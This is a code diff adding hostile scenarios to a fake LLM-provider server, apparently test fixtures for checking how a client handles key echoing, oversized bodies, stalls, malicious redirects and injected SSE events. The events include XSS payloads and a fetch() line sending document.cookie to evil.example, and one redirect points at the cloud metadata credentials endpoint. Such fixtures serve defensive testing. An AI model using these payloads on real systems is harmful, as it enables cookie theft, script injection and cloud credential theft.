@@ -269,6 +269,84 @@ def scenario_sse_quirks(h: Handler, model: str) -> None:
     h.event("[DONE]")
 
 
+def scenario_hostile(h: Handler, model: str) -> None:
+    """Answer the hostile reply the prompt names (see tests/hostile.py)."""
+    from tests.hostile import HOSTILE
+
+    messages = h.body.get("messages") or [{}]
+    text = HOSTILE.get(str(messages[-1].get("content")), "unknown hostile case")
+    if not h.body.get("stream"):
+        h.send_json(200, completion(model, text))
+        return
+    h.start_sse()
+    for start in range(0, len(text), 4096):
+        h.event(chunk(model, {"content": text[start:start + 4096]}))
+    h.event(chunk(model, {}, finish="stop"))
+    h.end_sse()
+
+
+def scenario_echo_key(h: Handler, model: str) -> None:
+    """A provider that repeats the Authorization header everywhere it can."""
+    key = h.headers.get("Authorization", "").removeprefix("Bearer ")
+    headers = {"x-request-id": key, "x-echo": key}
+    if h.body.get("stream"):
+        h.start_sse(headers=headers)
+        h.event(chunk(model, {"content": f"your key is {key} "}))
+        h.write(f"event: debug\ndata: {key}\n\n")
+        h.event(chunk(model, {}, finish="stop"))
+        h.end_sse()
+    else:
+        body = completion(model, f"your key is {key}")
+        body["echo"] = {key: key}
+        h.send_json(200, body, headers)
+
+
+def scenario_echo_key_error(h: Handler, model: str) -> None:
+    key = h.headers.get("Authorization", "").removeprefix("Bearer ")
+    h.send_json(401, {"error": {"message": f"Invalid key {key}", "code": key}},
+                {"x-request-id": key})
+
+
+def scenario_huge_body(h: Handler, model: str) -> None:
+    """Promise 1 GB and send it lazily until the client hangs up."""
+    size = 1 << 30
+    h.send_response(200)
+    h.send_header("Content-Type", "text/event-stream" if h.body.get("stream")
+                  else "application/json")
+    h.send_header("Content-Length", str(size))
+    h.end_headers()
+    block = (b"data: " + b"x" * 65528 + b"\n\n") if h.body.get("stream") else b" " * 65536
+    sent = 0
+    try:
+        while sent < size:
+            h.wfile.write(block)
+            sent += len(block)
+            h.server.sent_bytes = sent
+    except OSError:
+        pass
+    h.close_connection = True
+
+
+def scenario_stall_after_headers(h: Handler, model: str) -> None:
+    h.send_response(200)
+    h.send_header("Content-Type", "application/json")
+    h.send_header("Content-Length", "1000")
+    h.end_headers()
+    h.wfile.flush()
+    time.sleep(h.server.slow_seconds)
+    h.close_connection = True
+
+
+def scenario_unknown_events(h: Handler, model: str) -> None:
+    h.start_sse()
+    h.write("event: <script>window.__pwned=1</script>\ndata: <img src=x onerror=alert(1)>\n\n")
+    h.write("event: result\ndata: {\"html\": \"<img src=x onerror=alert(1)>\"}\n\n")
+    h.write("event: tool\ndata: {\"code\": \"fetch('https://evil.example/'+document.cookie)\"}\n\n")
+    h.event(chunk(model, {"content": "safe text\n\nevent: result\ndata: {\"html\": \"<b>x\"}"}))
+    h.event(chunk(model, {}, finish="stop"))
+    h.end_sse()
+
+
 SCENARIOS = {
     "fake/ok": scenario_ok,
     "fake/markdown": scenario_markdown,
@@ -305,6 +383,18 @@ SCENARIOS = {
     "fake/trickle": scenario_trickle,
     "fake/reject-stream-options": scenario_reject_stream_options,
     "fake/sse-quirks": scenario_sse_quirks,
+    "fake/hostile": scenario_hostile,
+    "fake/echo-key": scenario_echo_key,
+    "fake/echo-key-error": scenario_echo_key_error,
+    "fake/huge-body": scenario_huge_body,
+    "fake/stall-after-headers": scenario_stall_after_headers,
+    "fake/unknown-events": scenario_unknown_events,
+    "fake/redirect-host": status_scenario(307, b"", "text/plain",
+                                          {"Location": "https://evil.example/v1/chat/completions"}),
+    "fake/redirect-metadata": status_scenario(302, b"", "text/plain", {
+        "Location": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
+    "fake/error-200": status_scenario(200, {"error": {"message": "Upstream model overloaded",
+                                                      "code": 503}}),
 }
 
 
@@ -329,6 +419,7 @@ class FakeServer(ThreadingHTTPServer):
         self.disconnects = 0
         self.slow_seconds = 2.0
         self.trickle_delay = 0.05
+        self.sent_bytes = 0
 
     def record(self, handler: Handler, body) -> None:
         with self.lock:
